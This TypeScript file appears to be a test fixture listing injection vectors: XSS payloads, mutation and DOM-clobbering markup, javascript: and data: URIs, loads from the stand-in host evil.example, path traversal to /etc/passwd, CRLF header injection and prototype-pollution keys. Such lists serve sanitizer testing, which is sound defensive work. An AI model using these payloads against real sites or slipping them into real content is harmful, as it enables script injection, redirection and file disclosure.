/**
 * What a stranger could write so that a reader's browser, a feed reader or a program of ours takes it for more than text.
 * Whatever of it runs calls `pwned()`, and whatever of it is fetched is at `evil.example`.
 */
export interface Vector {
  readonly name: string;
  readonly text: string;
}

const handlers: readonly [element: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['video><source', 'onerror'],
  ['marquee', 'onstart'],
  ['div style="animation:x 1s"', 'onanimationstart'],
  ['button popovertarget=x>Open</button><div popover id=x', 'onbeforetoggle'],
];

const addresses = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  'java\tscript:pwned()',
  ' \u0001javascript:pwned()',
  'javascript&colon;pwned()',
  'vbscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
];

const named = (name: string, texts: readonly string[]): Vector[] =>
  texts.map((text, index) => ({ name: texts.length === 1 ? name : `${name} ${index + 1}`, text }));

export const vectors: readonly Vector[] = [
  ...named('script', [
    '<script>pwned()</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<script type=module>import "//evil.example/x.js"</script>',
    '</script><script>pwned()</script>',
    '<!--<script>--><script>pwned()</script>',
    '<svg><script>pwned()</script></svg>',
    '<scr<script>ipt>pwned()</scr</script>ipt>',
    '&lt;script&gt;pwned()&lt;/script&gt;',
  ]),
  ...handlers.map(([element, event]) => ({ name: event, text: `<${element} ${event}=pwned()>` })),
  ...named('address', addresses),
  ...named(
    'link of HTML',
    addresses.slice(0, 7).map((address) => `<a href="${address}">a link</a>`),
  ),
  ...named(
    'link of Markdown',
    addresses.slice(0, 7).map((address) => `[a link](<${address}>) and ![a picture](${address.replaceAll(' ', '')})`),
  ),
  ...named('reference of Markdown', [
    '[a link][x]\n\n[x]: javascript:pwned()',
    '<javascript:pwned()>',
    '[a](x "onerror=pwned()")',
  ]),
  ...named('what mutates', [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<xmp><p title="</xmp><img src=x onerror=pwned()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    '<template><img src=x onerror=pwned()></template>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  ]),
  ...named('clobbering', [
    '<form id=search action=//evil.example><input name=q></form>',
    '<img name=body><img name=getElementById>',
    '<a id=defaultView href=//evil.example>one</a><a id=defaultView name=location>two</a>',
  ]),
  ...named('elsewhere', [
    '<base href=//evil.example/>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<style>@import "//evil.example/x.css"; body{display:none}</style>',
    '<p style="background:url(//evil.example/x.png);position:fixed;inset:0">over all</p>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x.swf">',
  ]),
  ...named('out of an attribute', [
    '" onmouseover="pwned()',
    "'><img src=x onerror=pwned()>",
    '`${pwned()}`',
    '{{constructor.constructor("pwned()")()}}',
  ]),
  ...named('out of CDATA', [']]><script>pwned()</script>', ']]>]]&gt;<![CDATA[x']),
  ...named('signs that are not seen', [
    'right\u202Etfel\u202C and left',
    'zero\u200Bwidth\u2060joined\uFEFFword',
    'line\u2028pwned()\u2029line',
    'bell\u0007, escape\u001B[31m, delete\u007F',
    'half a pair \uD800 alone',
  ]),
  ...named('a name that objects have', ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype']),
  ...named('YAML', ['!!js/function "pwned()"', '&a [*a, *a]', 'key: "value\nother: x']),
  ...named('a path', ['../../../../etc/passwd', '..\\..\\windows', 'C:\\autoexec.bat', 'name\r\nSet-Cookie: x=1']),
];
